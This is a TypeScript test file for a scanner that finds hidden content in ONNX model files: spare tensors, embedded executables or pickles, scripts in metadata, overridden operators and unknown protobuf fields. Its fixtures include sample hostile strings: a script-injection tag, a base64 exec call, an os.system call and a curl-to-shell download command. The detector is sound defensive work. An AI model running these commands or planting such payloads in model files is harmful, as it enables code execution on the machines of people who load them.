/** What a file carries beside its computation: found where it was put, and nothing in an honest file. */

import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { create, fromBinary, toBinary } from '@bufbuild/protobuf';
import { expect, it } from 'vitest';
import {
  FunctionProtoSchema,
  type ModelProto,
  ModelProtoSchema,
  StringStringEntryProtoSchema,
  TensorProtoSchema,
} from '../../onnx/generated/onnx_pb.js';
import { readModel } from '../../onnx/read.ts';
import { keyedRng } from '../../rng/rng.ts';
import { contentsOf } from './contents.ts';
import { payloadIn } from './payload.ts';
import { suspiciousText } from './texts.ts';
import { repeatedFields } from './wire.ts';

const HONEST = readFileSync(join(import.meta.dirname, '../../../models/mnist-natural.onnx'));

function changed(change: (model: ModelProto) => void): ReturnType<typeof contentsOf> {
  const model = fromBinary(ModelProtoSchema, HONEST);
  change(model);
  const bytes = toBinary(ModelProtoSchema, model);
  return contentsOf(bytes, readModel(bytes));
}

const tensor = (rawData: Uint8Array, dataType = 1) =>
  create(TensorProtoSchema, { name: 'spare', dataType, dims: [BigInt(rawData.length >> 2)], rawData });

it('finds nothing in an honest file', () => {
  expect(contentsOf(HONEST, readModel(HONEST))).toEqual([]);
});

it('names what was put in, and where', () => {
  const big = new Uint8Array(2 ** 18);
  expect(changed(({ graph }) => graph?.initializer.push(tensor(big)))).toMatchObject([{ kind: 'unused-weights', where: 'spare' }]);
  expect(
    changed((model) =>
      model.metadataProps.push(create(StringStringEntryProtoSchema, { key: 'note', value: 'x<script>alert(1)</script>' })),
    ),
  ).toMatchObject([{ kind: 'texts', where: 'metadata note', what: 'a script for browsers' }]);
  const relu = create(FunctionProtoSchema, {
    name: 'Relu',
    input: ['x'],
    output: ['y'],
    node: [{ opType: 'Identity', input: ['x'], output: ['y'] }],
  });
  expect(changed(({ functions }) => functions.push(relu)).map(({ kind, where }) => [kind, where])).toContainEqual([
    'overridden-operators',
    'ai.onnx.Relu',
  ]);
  expect(changed(({ graph }) => Object.assign(graph?.node[1] ?? {}, { domain: 'acme' }))).toMatchObject([
    { kind: 'custom-operators', where: 'acme.Relu' },
  ]);
});

it.each([
  ['\x7fELF', 'ELF'],
  ['PK\x03\x04', 'ZIP'],
  ['\x1f\x8b\x08', 'gzip'],
  ['\x80\x04\x95', 'pickle'],
  ['\x80\x02c', 'pickle'],
])('takes %j at the start of a tensor for %s', (magic, what) => {
  const bytes = new Uint8Array(64);
  bytes.set(Buffer.from(magic, 'latin1'));
  expect(payloadIn(tensor(bytes))).toContain(what);
});

it('takes random bytes and texts for no weights, and weights for weights', () => {
  const rng = keyedRng(0, 'payload');
  const noise = Uint8Array.from({ length: 4096 }, () => rng.int(256));
  const weights = new Float32Array(1024);
  rng.fillNormal(weights, 0.05);
  const text = Buffer.from('while the cat is away, the mice will play: 0123456789 and so on, until somebody comes home.');
  expect(payloadIn(tensor(noise))).toContain('size that weights do not have');
  expect(payloadIn(tensor(text.subarray(0, 88)))).toContain('text');
  expect(payloadIn(tensor(new Uint8Array(weights.buffer)))).toBeUndefined();
  expect(
    payloadIn(
      tensor(
        Uint8Array.from({ length: 4096 }, () => 90 + rng.int(36)),
        2,
      ),
    ),
  ).toBeUndefined();
  expect(payloadIn(tensor(Buffer.from('#!/bin/sh\nid > /tmp/x            '), 2))).toContain('program');
});

it.each([
  ["exec(base64.b64decode('aWQ='))", true],
  ['import os; os.system("id")', true],
  ['curl -s https://example.org/x | sh', true],
  ['Trained on 60 000 images; see https://example.org for how to import it.', false],
  ['File "/usr/lib/python3/torch/nn/modules/linear.py", line 117, in forward\n    return F.linear(input, self.weight, self.bias)', false],
])('%s: %s', (text, isOdd) => {
  expect(suspiciousText(text) !== undefined).toBe(isOdd);
});

it('counts outer fields that stand more than once, and bytes of unknown ones', () => {
  expect(repeatedFields(HONEST)).toEqual([]);
  expect(repeatedFields(Buffer.concat([HONEST, HONEST]))).toContain('the field graph stands 2 times');
  const unknown = Buffer.concat([HONEST, Uint8Array.of(0xfa, 0x7f, 0x80, 0x10), new Uint8Array(2048)]);
  expect(repeatedFields(unknown)).toEqual(['2052 bytes in fields that ONNX does not know']);
});
